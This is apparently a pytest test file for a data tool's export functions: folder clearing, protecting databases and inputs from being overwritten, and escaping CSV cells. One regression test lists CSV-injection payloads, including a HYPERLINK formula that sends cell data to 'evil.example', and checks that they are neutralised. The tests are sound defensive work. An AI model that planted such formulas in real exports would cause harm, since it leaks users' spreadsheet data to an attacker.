"""store.exports.prepare_folder: the output-folder handling that `whatworks demo` uses (file operations live in store/)."""

from __future__ import annotations

import json

import pytest

from whatworks.errors import WhatworksError
from whatworks.store.exports import prepare_folder


def test_a_new_folder_is_created_with_its_marker(tmp_path):
    out = prepare_folder(tmp_path / "a" / "b", clear=["x.csv"], marker=".mine", marker_text="mine\n")
    assert out == tmp_path / "a" / "b" and out.is_dir()
    assert (out / ".mine").read_text(encoding="utf-8") == "mine\n"


def test_a_marked_folder_has_only_the_owned_outputs_cleared(tmp_path):
    out = prepare_folder(tmp_path / "out", clear=["tables", "store.duckdb"], marker=".mine")
    (out / "tables").mkdir()
    (out / "tables" / "t.csv").write_text("a\n1\n")
    (out / "store.duckdb").write_bytes(b"db")
    (out / "notes.txt").write_text("the analyst's own notes")
    prepare_folder(out, clear=["tables", "store.duckdb", "missing.zip"], marker=".mine")
    assert sorted(p.name for p in out.iterdir()) == [".mine", "notes.txt"]
    assert (out / "notes.txt").read_text() == "the analyst's own notes"


def test_an_unmarked_non_empty_folder_or_a_file_is_refused_untouched(tmp_path):
    (tmp_path / "keep.txt").write_text("keep me")
    with pytest.raises(WhatworksError, match=r"demo\(\): The folder .* not made by `whatworks demo`"):
        prepare_folder(tmp_path, clear=["keep.txt"], marker=".mine", made_by="`whatworks demo`", where="demo")
    assert (tmp_path / "keep.txt").read_text() == "keep me" and not (tmp_path / ".mine").exists()
    with pytest.raises(WhatworksError, match="is a file"):
        prepare_folder(tmp_path / "keep.txt")
    # without a marker only a new or empty folder is accepted
    (tmp_path / "empty").mkdir()
    assert prepare_folder(tmp_path / "empty") == tmp_path / "empty"
    with pytest.raises(WhatworksError, match="not empty"):
        prepare_folder(tmp_path)


# ---------------------------------------------------------------- outputs never overwrite inputs (issue #12)
import csv as _csv_mod  # noqa: E402

import pandas as pd  # noqa: E402
from hypothesis import given, settings, strategies as st  # noqa: E402

from whatworks.store import Store  # noqa: E402
from whatworks.store.exports import (check_output, neutralise_cells, provenance_path, write_table,  # noqa: E402
                                     write_text)


def _store_with_a_row(path):
    with Store(path) as s:
        s.con.execute("CREATE TABLE keep_me AS SELECT 42 AS answer")
    return path


def test_a_store_is_never_overwritten_by_an_output(tmp_path):
    # regression #12.1: `whatworks pack --store s.duckdb --out s.duckdb` turned the store into an HTML file
    store = _store_with_a_row(tmp_path / "s.duckdb")
    before = store.read_bytes()
    for out in (store, tmp_path / "s.duckdb.wal"):
        with pytest.raises(WhatworksError, match="database|journal"):
            write_text(out, "<html></html>")
    with pytest.raises(WhatworksError, match="never writes over a database"):
        write_text(store, "<html></html>", overwrite=True)  # not even with overwrite
    assert store.read_bytes() == before
    with Store(store, read_only=True) as s:
        assert s.sql("SELECT answer FROM keep_me")["answer"].tolist() == [42]


def test_a_link_to_the_store_and_a_named_input_are_refused(tmp_path):
    store = _store_with_a_row(tmp_path / "s.duckdb")
    (tmp_path / "pack.html").symlink_to(store)
    with pytest.raises(WhatworksError, match="database"):
        write_text(tmp_path / "pack.html", "<html></html>")
    data = tmp_path / "input.csv"
    data.write_text("a\n1\n")
    with pytest.raises(WhatworksError, match="one of this command's inputs"):
        write_table(pd.DataFrame({"a": [1]}), data, inputs=[data], overwrite=True)
    assert data.read_text() == "a\n1\n"


def test_a_file_whatworks_did_not_write_needs_overwrite(tmp_path):
    notes = tmp_path / "notes.html"
    notes.write_text("<p>the analyst's own notes</p>")
    with pytest.raises(WhatworksError, match="not written by whatworks.*overwrite=True"):
        write_text(notes, "<html></html>")
    assert notes.read_text() == "<p>the analyst's own notes</p>"
    write_text(notes, "<html></html>", overwrite=True)
    assert notes.read_text() == "<html></html>"


def test_whatworks_may_rewrite_its_own_outputs(tmp_path):
    pack = tmp_path / "pack.html"
    write_text(pack, '<!doctype html><meta name="generator" content="whatworks"><p>one</p>')
    write_text(pack, '<!doctype html><meta name="generator" content="whatworks"><p>two</p>')
    assert "two" in pack.read_text()
    table = tmp_path / "t.csv"
    write_table(pd.DataFrame({"a": [1]}), table)
    write_table(pd.DataFrame({"a": [2]}), table)  # its provenance file marks it as ours
    assert table.read_bytes() == b"a\r\n2\r\n"
    assert not list(tmp_path.glob("*.tmp"))


def test_the_consort_svg_carries_the_whatworks_mark():
    import matplotlib

    matplotlib.use("Agg")
    from whatworks.store.exports import _OWN_MARKS
    from whatworks.trials.consort import consort

    log = pd.DataFrame([("assigned", "a", "treatment", ""), ("assigned", "b", "control", "")],
                       columns=["kind", "unit_id", "arm", "reason"])
    svg = consort(log).svg()
    assert any(m.decode() in svg[:8192] for m in _OWN_MARKS)


def test_check_output_refuses_a_folder(tmp_path):
    with pytest.raises(WhatworksError, match="is a folder"):
        check_output(tmp_path)


def test_csv_exports_are_safe_to_open_in_a_spreadsheet(tmp_path):
    # regression #12.2: a quarantined RMS row starting '=HYPERLINK(...)' was exported verbatim
    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\r=1",
               "-5", "+44", "3.5", "fine", "a=b"]
    frame = pd.DataFrame({"raw": hostile, "n": range(len(hostile)), "=col": ["x"] * len(hostile)})
    out = write_table(frame, tmp_path / "rejected.csv", provenance={"query": "SELECT * FROM quarantine"})
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(_csv_mod.reader(fh))
    cells = [c for row in rows for c in row]
    for c in cells:
        assert not (c[:1] in ("=", "+", "-", "@", "\t", "\r") and c not in ("-5", "+44")), c
    assert rows[0] == ["raw", "n", "'=col"]
    assert [r[0] for r in rows[1:]] == ["'" + h if h[0] in "=+-@\t\r" and h not in ("-5", "+44") else h for h in hostile]
    prov = json.loads(provenance_path(out).read_text())
    assert prov["generator"] == "whatworks" and prov["rows"] == len(hostile)
    assert prov["query"] == "SELECT * FROM quarantine" and prov["whatworks_version"]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=8))
def test_neutralised_cells_never_start_a_formula_and_lose_nothing(values):
    got = neutralise_cells(pd.DataFrame({"v": values}))["v"].tolist()
    for before, after in zip(values, got):
        if after != before:
            assert after == "'" + before and before[0] in "=+-@\t\r"
        else:
            assert not before[:1] or before[0] not in "=+-@\t\r" or before.lstrip("+-").replace(".", "", 1).isdigit() \
                or "e" in before.lower()
